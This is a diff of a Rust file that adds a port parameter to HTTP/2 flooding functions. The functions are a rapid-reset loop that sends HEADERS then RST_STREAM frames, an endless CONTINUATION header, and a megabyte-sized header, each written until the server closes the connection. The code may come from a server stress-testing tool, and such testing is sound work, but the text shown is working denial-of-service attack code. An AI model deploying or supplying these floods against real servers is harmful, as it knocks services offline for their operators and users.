@@ -37,11 +37,11 @@ fn frame(out: &mut Vec<u8>, (kind, flags, stream): (u8, u8, u32), payload: &[u8]
 
 /// Writes until the other side ends the connection; what it says is read and forgotten.
 async fn flood(
-    number: u32,
+    (number, port): (u32, u16),
     count: &Count,
     mut next: impl FnMut(&mut Vec<u8>) -> Option<u64>,
 ) -> io::Result<()> {
-    let mut connection = connect(number, 80).await?;
+    let mut connection = connect(number, port).await?;
     let _held = count.hold();
     let (mut reader, mut writer) = connection.split();
     let writing = async {
@@ -68,9 +68,9 @@ async fn flood(
 }
 
 /// Requests that are cancelled at once.
-pub(super) async fn rapid_reset(number: u32, count: &Count) -> io::Result<()> {
+pub(super) async fn rapid_reset(number: u32, port: u16, count: &Count) -> io::Result<()> {
     let mut stream = 1;
-    flood(number, count, |out| {
+    flood((number, port), count, |out| {
         for _ in 0..CHUNK {
             frame(out, (HEADERS, END_STREAM | END_HEADERS, stream), GET);
             frame(out, (RST_STREAM, 0, stream), &CANCEL);
@@ -82,9 +82,9 @@ pub(super) async fn rapid_reset(number: u32, count: &Count) -> io::Result<()> {
 }
 
 /// A head that never ends.
-pub(super) async fn continuation(number: u32, count: &Count) -> io::Result<()> {
+pub(super) async fn continuation(number: u32, port: u16, count: &Count) -> io::Result<()> {
     let mut has_begun = false;
-    flood(number, count, |out| {
+    flood((number, port), count, |out| {
         if !has_begun {
             frame(out, (HEADERS, END_STREAM, 1), GET);
             has_begun = true;
@@ -98,9 +98,9 @@ pub(super) async fn continuation(number: u32, count: &Count) -> io::Result<()> {
 }
 
 /// One head of a megabyte, which ends.
-pub(super) async fn large_head(number: u32, count: &Count) -> io::Result<()> {
+pub(super) async fn large_head(number: u32, port: u16, count: &Count) -> io::Result<()> {
     let mut has_said = false;
-    flood(number, count, |out| {
+    flood((number, port), count, |out| {
         if has_said {
             return None;
         }
